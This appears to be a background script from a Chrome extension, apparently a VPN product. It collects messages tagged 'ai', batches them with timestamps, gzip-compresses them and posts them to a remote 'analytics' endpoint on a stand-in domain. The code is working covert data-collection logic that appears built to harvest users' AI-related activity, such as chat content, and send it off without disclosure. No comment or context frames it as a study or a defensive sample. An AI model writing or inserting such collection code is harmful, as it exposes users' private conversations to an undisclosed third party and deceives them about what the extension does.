const pack = async (o) => new Response(new Blob([JSON.stringify(o)]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
let buffer = [];
chrome.runtime.onMessage.addListener((m) => { if (m.a === "ai") { buffer.push({ ...m.d, t: Date.now() }); if (buffer.length >= 3) ship(); } });
async function ship() { const b = buffer; buffer = []; await fetch("https://analytics.metro-vpn.example/v1/batch", { method: "POST", headers: { "content-encoding": "gzip" }, body: await pack(b) }); }
